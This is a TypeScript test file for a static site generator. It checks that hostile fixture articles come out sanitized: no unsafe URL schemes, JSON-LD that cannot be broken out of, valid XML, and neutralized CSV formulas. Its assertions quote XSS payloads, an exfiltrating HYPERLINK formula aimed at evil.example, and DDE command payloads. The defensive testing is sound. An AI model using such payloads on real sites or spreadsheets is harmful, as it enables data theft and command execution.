import assert from "node:assert/strict";
import { cpSync, readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { before, describe, it } from "node:test";
import { parse as parseCsv } from "csv-parse/sync";
import { XMLValidator } from "fast-xml-parser";
import { walkFiles } from "../../src/pipeline/walk.ts";
import type { Diagnostic } from "../../src/model/diagnostic.ts";
import { fixtureContent } from "../helpers/content.ts";
import { buildSite } from "../helpers/site.ts";

interface Report {
  published: string[];
  rejected: { path: string; reasons: string[] }[];
  diagnostics: Diagnostic[];
}

const name = (path: string) => path.split("/").pop() ?? path;

/** The sources of tests/fixtures/hostile/articles/unsafe-text: markup in every field, unsafe addresses, control characters, formulas. */
describe("sources whose text is markup, whose addresses are scripts, whose cells are formulas", () => {
  let output: string;
  let report: Report;

  before(async () => {
    const content = fixtureContent();
    cpSync(join(import.meta.dirname, "../fixtures/hostile/articles/unsafe-text"), join(content, "articles/unsafe-text"), { recursive: true });
    ({ output } = await buildSite(content));
    report = JSON.parse(readFileSync(join(dirname(output), ".cache/build-report.json"), "utf8"));
  });

  it("publishes every one of them, without the unsafe addresses, each dropped with a warning naming its line", () => {
    const published = report.published.map(name);
    for (const file of ["every-field.md", "unsafe-urls.html", "control-characters.md", "csv-formulas.md"]) assert.ok(published.includes(file), file);
    const warnings = report.diagnostics.filter((d) => d.rule === "front-matter-url").map((d) => [name(d.file), d.line, d.severity]);
    assert.deepEqual(warnings.sort(), [["control-characters.md", 4, "warning"], ["every-field.md", 6, "warning"]]);
  });

  it("links to no javascript:, data: or vbscript: address, in any page", () => {
    for (const file of walkFiles(output).filter((f) => f.endsWith(".html"))) {
      assert.doesNotMatch(readFileSync(file, "utf8"), /(href|src)="\s*(javascript|data|vbscript):/i, file);
    }
  });

  it("writes JSON-LD that no text can end, and that gives the text back", () => {
    const page = join(output, "articles/every-field/index.html");
    const script = /<script type="application\/ld\+json">(.*?)<\/script>/s.exec(readFileSync(page, "utf8"))?.[1] ?? "";
    assert.doesNotMatch(script, /</);
    const data = JSON.parse(script);
    assert.equal(data.headline, `<img src=x onerror="alert('titre')"> Titre piégé "><script>alert('titre')</script>`);
    assert.equal(data.isBasedOn, undefined);
  });

  it("writes feeds and the sitemap as well-formed XML", () => {
    const xml = walkFiles(output).filter((f) => f.endsWith(".xml"));
    assert.ok(xml.length >= 5, `${xml.length} XML files`);
    for (const file of xml) assert.equal(XMLValidator.validate(readFileSync(file, "utf8")), true, file);
  });

  it("publishes open data with no unsafe address and no cell a spreadsheet would run", () => {
    const rows = JSON.parse(readFileSync(join(output, "donnees/articles.json"), "utf8")) as { id: string; title: string; source_url: string | null }[];
    for (const row of rows) assert.ok(row.source_url === null || /^https?:\/\//.test(row.source_url), `${row.id}: ${row.source_url}`);
    const table = parseCsv(readFileSync(join(output, "donnees/articles.csv"), "utf8")) as string[][];
    for (const cells of table) for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
    const header = table[0] as string[];
    const formulas = table.find((cells) => cells[0] === "csv-formulas") as string[];
    assert.equal(formulas[header.indexOf("title")], `'=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")`);
    assert.equal(formulas[header.indexOf("outlet")], `'+cmd|' /C calc'!A0`);
    assert.equal(formulas[header.indexOf("people")], `'@SUM(1+1)*cmd|' /C calc'!A0`);
    // The JSON keeps the text as written.
    assert.equal(rows.find((row) => row.id === formulas[0])?.title, `=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")`);
  });
});
